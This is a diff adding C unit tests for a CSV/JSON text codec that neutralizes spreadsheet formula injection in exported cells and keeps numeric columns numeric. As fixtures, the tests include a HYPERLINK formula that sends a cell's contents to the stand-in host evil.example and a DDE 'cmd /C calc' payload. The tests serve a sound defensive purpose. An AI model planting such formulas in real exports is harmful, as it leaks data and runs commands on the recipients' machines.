@@ -1,6 +1,7 @@
 /*
  * test_text.c: the shared text codecs (storage/text.c): the bounded builder and its cap,
- * JSON and CSV escaping, identifier rules, and UTC time in both directions, checked on
+ * JSON and CSV escaping (spreadsheet formulas neutralized in text cells, numbers kept as
+ * numbers), identifier rules, and UTC time in both directions, checked on
  * exact strings and exact millisecond values.
  */
 #include <stdarg.h>
@@ -223,6 +224,84 @@ static void test_csv_field(void **state)
     csv_is("a\r\nb", "\"a\r\nb\"");
     csv_is("caf\xc3\xa9", "caf\xc3\xa9");
     csv_is("x,\"y\"\n", "\"x,\"\"y\"\"\n\"");
+    /* A ';' is quoted too: a spreadsheet in a decimal-comma locale splits cells there. */
+    csv_is("a;=1+1", "\"a;=1+1\"");
+}
+
+/* A text cell a spreadsheet would run as a formula gets a leading quote (OWASP), whatever
+ * it holds: an order id, a referrer, a UTM value. */
+static void test_csv_formula_neutralized(void **state)
+{
+    (void)state;
+    csv_is("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+           "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
+    csv_is("=1+1", "'=1+1");
+    csv_is("=", "'=");
+    csv_is("+62812345", "'+62812345");
+    csv_is("-1500", "'-1500"); /* in a text column, even a number-looking value */
+    csv_is("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0");
+    csv_is("@SUM(A1:A9)", "'@SUM(A1:A9)");
+    csv_is("\t=1+1", "'\t=1+1");
+    csv_is("\r=1+1", "\"'\r=1+1\"");
+    /* Not at the start, or already quoted: left alone. */
+    csv_is("a=1+1", "a=1+1");
+    csv_is(" =1", " =1");
+    csv_is("'=1", "'=1");
+    csv_is("INV-1001", "INV-1001");
+}
+
+static void csv_number_is(const char *in, const char *want)
+{
+    text_buf b;
+    text_buf_init(&b, 4096);
+    assert_true(text_csv_number(&b, in));
+    assert_string_equal(b.ptr ? b.ptr : "", want);
+    text_buf_free(&b);
+}
+
+/* A number column jejak computed stays a number, a negative one too; anything in it that
+ * is not a plain number is written as text, neutralized. */
+static void test_csv_number(void **state)
+{
+    (void)state;
+    csv_number_is("-1500", "-1500");
+    csv_number_is("-1500.00", "-1500.00");
+    csv_number_is("0", "0");
+    csv_number_is("199000.00", "199000.00");
+    csv_number_is("-64.0741448499904", "-64.0741448499904");
+    csv_number_is("1e-05", "1e-05");
+    csv_number_is("-1.5E+20", "-1.5E+20");
+    csv_number_is("n/a", "n/a");
+    csv_number_is("", "");
+    csv_number_is("-", "'-");
+    csv_number_is("-1+2", "'-1+2");
+    csv_number_is("=1", "'=1");
+    csv_number_is("+1", "'+1");
+    csv_number_is("1,5", "\"1,5\"");
+    csv_number_is("-1.", "'-1.");
+    csv_number_is("-1e", "'-1e");
+}
+
+/* text_row decides per column: text cells are neutralized, number cells are not. */
+static void test_row_kinds(void **state)
+{
+    (void)state;
+    const char *const names[] = {"order_id", "ts", "amount", "coupon", "bot"};
+    const char *const vals[] = {"=HYPERLINK(1)", "-5", "-1500.00", "@x", "true"};
+    const text_kind kinds[] = {TEXT_STR, TEXT_RAW, TEXT_NUM_STR, TEXT_STR_OR_NULL, TEXT_RAW};
+    text_buf b;
+    text_buf_init(&b, 4096);
+    assert_true(text_row(&b, true, names, vals, kinds, 5));
+    assert_string_equal(b.ptr, "'=HYPERLINK(1),-5,-1500.00,'@x,true");
+    text_buf_reset(&b);
+    assert_true(text_row(&b, false, names, vals, kinds, 5));
+    assert_string_equal(b.ptr, "\"order_id\":\"=HYPERLINK(1)\",\"ts\":-5,\"amount\":\"-1500.00\","
+                               "\"coupon\":\"@x\",\"bot\":true");
+    /* Without kinds every cell is text. */
+    text_buf_reset(&b);
+    assert_true(text_row(&b, true, names, vals, NULL, 3));
+    assert_string_equal(b.ptr, "'=HYPERLINK(1),'-5,'-1500.00");
+    text_buf_free(&b);
 }
 
 /* ---- identifiers ----------------------------------------------------------------------- */
@@ -506,6 +585,9 @@ int main(void)
         cmocka_unit_test(test_json_escaping),
         cmocka_unit_test(test_json_appends),
         cmocka_unit_test(test_csv_field),
+        cmocka_unit_test(test_csv_formula_neutralized),
+        cmocka_unit_test(test_csv_number),
+        cmocka_unit_test(test_row_kinds),
         cmocka_unit_test(test_valid_id),
         cmocka_unit_test(test_parse_time_forms),
         cmocka_unit_test(test_parse_time_refusals),
